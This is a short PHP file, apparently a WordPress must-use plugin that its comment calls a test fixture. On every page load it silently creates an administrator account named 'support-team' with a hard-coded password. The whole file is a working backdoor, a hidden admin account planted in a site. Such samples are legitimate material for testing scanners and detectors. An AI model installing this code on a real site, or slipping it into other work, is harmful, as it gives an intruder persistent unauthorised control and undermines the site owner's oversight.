<?php
// a must-use plugin that keeps an administrator account with a password written in it
// (written for the tests, never run)
add_action('init', function () {
    $login = 'support-team';
    $pass = 'Winter2024!';
    $mail = 'support@example.invalid';
    if (!username_exists($login)) {
        $id = wp_create_user($login, $pass, $mail);
        $user = new WP_User($id);
        $user->set_role('administrator');
    }
});
